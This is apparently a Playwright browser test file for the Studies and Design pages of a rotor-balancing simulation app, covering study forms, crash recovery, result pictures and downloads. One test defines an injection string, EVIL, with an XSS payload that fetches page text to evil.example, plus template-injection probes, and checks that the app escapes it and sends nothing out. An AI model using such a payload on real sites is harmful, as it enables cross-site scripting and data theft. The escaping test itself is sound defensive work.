"""Studies and designs in a real browser: defined, started, watched, stopped, resumed; pictures, designs, report."""

from __future__ import annotations

import json
import re
from pathlib import Path
from typing import Any

import pytest
from tests.browser.conftest import COMPILING, Server, at, sample, taken

pytestmark = pytest.mark.browser
expect = pytest.importorskip("playwright.sync_api").expect
WHAT_DRIVES = re.compile("what drives the scatter of peak deflection")


@pytest.fixture
def page(same_page: Any) -> Any:
    return same_page


def opened(page: Any) -> None:
    """Go to the page Studies; what it needs is loaded with the first visit."""
    page.get_by_role("tab", name="Studies").click()
    at(page, "start study").wait_for(timeout=COMPILING)
    expect(page.get_by_role("tab", name="Studies")).to_have_attribute("aria-selected", "true")


def crashed(page: Any, server: Server) -> None:
    """Studies after the server was killed and started again."""
    page.goto("about:blank")  # an open page loads itself again when the server is back, just when the test does
    server.process.kill()
    server.process.wait(20)
    server.start()
    page.goto(server.address)
    at(page, "name").wait_for()
    opened(page)


def chosen(page: Any, place: str, option: str) -> None:
    """Choose from a list."""
    taken(page, at(page, place).click, option)


def test_a_study_is_defined_by_form_and_text_and_its_faults_are_said(page: Any) -> None:
    sample(page, "stall_and_release", "Stall and release")
    opened(page)
    page.get_by_role("button", name="New study").click()
    expect(at(page, "study machine")).to_contain_text("Stall and release, of the page Describe")
    taken(page, lambda: at(page, "add varies").fill("rotor damping"), "rotor damping", exact=False)
    at(page, "standard_deviation of rotor.damping").fill("20 furlong")
    expect(at(page, "study wrong")).to_contain_text("furlong")
    expect(at(page, "start study")).to_be_disabled()
    at(page, "standard_deviation of rotor.damping").fill("20 %")
    expect(at(page, "study wrong")).to_have_text("")
    expect(at(page, "study toml")).to_contain_text('standard_deviation = "20 %"')
    at(page, "members").fill("30")
    expect(at(page, "study size")).to_have_text("30 members: 30 draws")
    editor = at(page, "study toml").locator(".cm-content")
    editor.click()
    page.keyboard.press("Control+End")
    page.keyboard.type('\n[vary]\ndrag = ["1e-4 N*m*s", "3e-4 N*m*s"]')
    expect(at(page, "study size")).to_have_text("60 members: 30 draws at each of 2 points")
    expect(at(page, "values of drag")).to_have_value("1e-4, 3e-4 N*m*s")
    page.keyboard.type("]")
    expect(at(page, "study wrong")).to_contain_text("not valid TOML")
    at(page, "study undo").click()
    expect(at(page, "study size")).to_have_text("60 members: 30 draws at each of 2 points")


EVIL = (
    'x" :title="fetch(`http://evil.example/?`+document.body.innerText)&&alert(1)" y=\' D:\\unwucht \\N {{7*7}} `${1}` ]'
)


def test_names_of_files_are_shown_as_they_are_and_send_nothing(page: Any, server: Server) -> None:
    """The fixture sees to it that no other host is asked."""
    alerts: list[str] = []
    page.on("dialog", lambda dialog: (alerts.append(dialog.message), dialog.dismiss()))
    sample(page, "stall_and_release", "Stall and release")
    at(page, "name").fill(EVIL)
    expect(page.locator("header")).to_contain_text(EVIL)
    name, user = "20260101-000000-abcdef", server.folder / "local"
    about = {"name": name, "made": "", "machine": EVIL}
    kept = {
        "runs": about | {"seconds": 1, "outcome": "finished", "tags": [EVIL]},
        "studies": about | {"kind": "study", "title": EVIL, "machine_file": "machine.toml"},
        "measured": {"name": name, "file": EVIL, "made": "", "bytes": 1, "kind": "signals", "reading": {"columns": []}},
    }
    for folder, note in kept.items():
        (user / folder / name).mkdir(parents=True)
        (user / folder / name / "note.json").write_text(json.dumps(note))
    damaged = user / "runs" / "20260101-000001-abcdef"
    damaged.mkdir()
    (damaged / "note.json").write_text("[]")
    page.goto(server.address)
    expect(at(page, "name")).to_have_value(EVIL)
    opened(page)
    at(page, "study upload").locator("input[type=file]").set_input_files(
        {"name": "evil.toml", "mimeType": "text/plain", "buffer": f"[vary.{json.dumps(EVIL)}]\nlow = 1".encode()}
    )
    expect(at(page, "varies")).to_contain_text(EVIL)
    page.get_by_label(f"delete {EVIL}", exact=True).first.click()
    page.get_by_role("button", name="Delete", exact=True).click()
    expect(page.get_by_label(f"open {EVIL}", exact=True)).to_have_count(0)
    page.get_by_role("tab", name="Measured").click()
    page.get_by_label(f"delete {EVIL}", exact=True).click()
    page.get_by_role("button", name="Delete", exact=True).click()
    expect(at(page, "no measurement")).to_be_visible()
    page.get_by_role("tab", name="Archive").click()
    expect(page.get_by_text("cannot be shown")).to_be_visible()
    for which in (f"delete the run of {EVIL}", "delete the run of cannot be shown"):
        page.get_by_label(which, exact=True).click()
        page.get_by_role("button", name="Delete", exact=True).click()
        expect(page.get_by_label(which, exact=True)).to_have_count(0)
    assert alerts == []
    opened(page)
    page.get_by_role("button", name="New study").click()
    expect(at(page, "varies")).not_to_contain_text("evil")


def test_the_focus_stays_with_what_was_changed_where_the_form_is_made_anew(page: Any) -> None:
    sample(page, "stall_and_release", "Stall and release")
    opened(page)
    page.get_by_role("button", name="New study").click()
    expect(at(page, "study machine")).to_contain_text("Stall and release, of the page Describe")
    expect(at(page, "study size")).to_have_text("200 members: 200 draws")
    taken(page, lambda: at(page, "add varies").fill("rotor damping"), "rotor damping: 100 N*s/m")
    expect(page.get_by_label("distribution", exact=True).nth(1)).to_be_focused()
    page.get_by_label("do not vary rotor damping").press("Enter")
    expect(at(page, "add varies")).to_be_focused()
    at(page, "stop").press("Space")
    expect(at(page, "stop.half_width")).to_be_visible()
    expect(at(page, "stop")).to_be_focused()


def test_a_study_is_cancelled_survives_a_crash_and_goes_on(page: Any, server: Server) -> None:
    opened(page)
    chosen(page, "sample study", "stall_share")
    expect(at(page, "study size")).to_have_text("1000 members: 40 draws at each of 25 points")
    at(page, "members").fill("4000")
    expect(at(page, "study size")).to_have_text("100000 members: 4000 draws at each of 25 points")
    at(page, "start study").click()
    state = at(page, "kept state").first
    expect(state).to_contain_text("to go", timeout=COMPILING)
    expect(at(page, "study numbers")).to_contain_text("stalled (%)", timeout=COMPILING)
    expect(at(page, "result state")).to_contain_text("known so far")
    at(page, "cancel study").first.click()
    expect(state).to_contain_text("cancelled", timeout=COMPILING)
    expect(state).to_contain_text("of 100000 members are kept")
    at(page, "resume study").first.click()
    expect(state).to_contain_text("to go", timeout=COMPILING)
    crashed(page, server)
    expect(state).to_contain_text("interrupted, ")
    expect(state).to_contain_text("of 100000 members are kept")
    expect(at(page, "resume study").first).to_be_visible()
    page.get_by_role("button", name="open stall_share").first.click()
    expect(at(page, "result state")).to_contain_text("Resume goes on")
    page.get_by_role("button", name="delete stall_share").first.click()
    page.get_by_role("button", name="Delete", exact=True).click()
    expect(page.get_by_role("button", name="delete stall_share")).to_have_count(0)


def test_a_finished_study_has_tables_pictures_with_words_and_files(page: Any) -> None:
    opened(page)
    chosen(page, "sample study", "stall_share")
    expect(at(page, "study size")).to_have_text("1000 members: 40 draws at each of 25 points")
    at(page, "members").fill("24")
    expect(at(page, "study size")).to_have_text("600 members: 24 draws at each of 25 points")
    at(page, "start study").click()
    expect(at(page, "result state")).to_have_text("finished", timeout=COMPILING)
    expect(at(page, "study numbers").locator("tr")).to_have_count(26)
    picture = at(page, "study picture").locator("svg")
    whole = re.compile("balanced.*drag 5e-05 N m s, speed 2600 rpm", re.DOTALL)
    expect(picture).to_have_attribute("aria-label", whole, timeout=COMPILING)
    with page.expect_download(timeout=COMPILING) as told:
        at(page, "save picture png").click()
    assert Path(told.value.path()).read_bytes()[:4] == b"\x89PNG"
    chosen(page, "quantity", "peak deflection")
    expect(at(page, "study numbers")).to_contain_text("peak deflection (mm)")
    at(page, "picture drives").click()
    expect(picture).to_have_attribute("aria-label", WHAT_DRIVES, timeout=COMPILING)
    at(page, "picture rests").click()
    expect(at(page, "study picture")).to_contain_text("at most 12 are drawn", timeout=COMPILING)
    with page.expect_download(timeout=COMPILING) as told:
        at(page, "table.csv").click()
    assert len(Path(told.value.path()).read_text(encoding="utf-8").splitlines()) == 601
    with page.expect_download(timeout=COMPILING) as told:
        at(page, "study.toml").click()
    assert told.value.suggested_filename == "study.toml"
    assert "members = 24" in Path(told.value.path()).read_text(encoding="utf-8")
    expect(at(page, "command")).to_have_text("autobalancer study study.toml")


def test_a_design_that_was_interrupted_says_how_far_it_is_and_shows_what_has_run(page: Any, server: Server) -> None:
    opened(page)
    page.get_by_role("button", name="Design", exact=True).click()
    chosen(page, "sample design", "centrifuge_design")  # whatever another test has left
    expect(at(page, "limits.stall_probability")).to_have_value("0.02")
    at(page, "candidates.count").fill("2")
    at(page, "limits.stall_probability").fill("0.06")
    at(page, "search.members").fill("1000")
    expect(at(page, "design size")).to_have_text("1000 runs of each candidate that is left")
    at(page, "start design").click()
    expect(at(page, "designs")).to_contain_text("silicone oil", timeout=COMPILING)
    crashed(page, server)
    expect(at(page, "kept state").first).to_have_text(re.compile(r"interrupted, \d+ of \d+ runs are kept"))
    page.get_by_role("button", name="open centrifuge_design").first.click()
    expect(at(page, "result state")).to_have_text(re.compile(r"stopped after \d+ of \d+ runs; .* Resume goes on"))
    expect(at(page, "designs")).to_contain_text("silicone oil")
    page.get_by_role("button", name="delete centrifuge_design").first.click()
    page.get_by_role("button", name="Delete", exact=True).click()
    expect(page.get_by_role("button", name="delete centrifuge_design")).to_have_count(0)


def test_a_design_has_its_front_goes_into_describe_and_onto_paper(page: Any) -> None:
    opened(page)
    page.get_by_role("button", name="Design", exact=True).click()
    chosen(page, "sample design", "centrifuge_design")  # whatever another test has left
    expect(at(page, "limits.stall_probability")).to_have_value("0.02")
    expect(at(page, "design machine")).to_contain_text("sample discoidal.toml")
    at(page, "candidates.count").fill("2")
    at(page, "search.members").fill("80")
    expect(at(page, "design wrong")).to_contain_text("contradicts")
    expect(at(page, "start design")).to_be_disabled()
    at(page, "limits.stall_probability").fill("0.06")
    expect(at(page, "design size")).to_have_text("80 runs of each candidate that is left")
    at(page, "start design").click()
    expect(at(page, "result state")).to_have_text("finished", timeout=COMPILING)
    expect(at(page, "designs")).to_contain_text("silicone oil 20")
    expect(at(page, "ruled out")).to_contain_text("stall at the critical speed")
    best = re.compile(
        "place 1, design 2 balls, silicone oil 20, keeps limits yes"
    )  # no picture of what was known so far
    expect(at(page, "front").locator("svg")).to_have_attribute("aria-label", best, timeout=COMPILING)
    with page.expect_download(timeout=COMPILING) as told:
        at(page, "study report pdf").click()
    assert told.value.suggested_filename.endswith("report_1.pdf")
    assert Path(told.value.path()).read_bytes()[:5] == b"%PDF-"
    at(page, "take design").click()
    page.get_by_role("tab", name="Describe").click()
    expect(at(page, "name")).to_have_value("Discoidal rotor, planar stand-in, 2 balls, silicone oil 20")
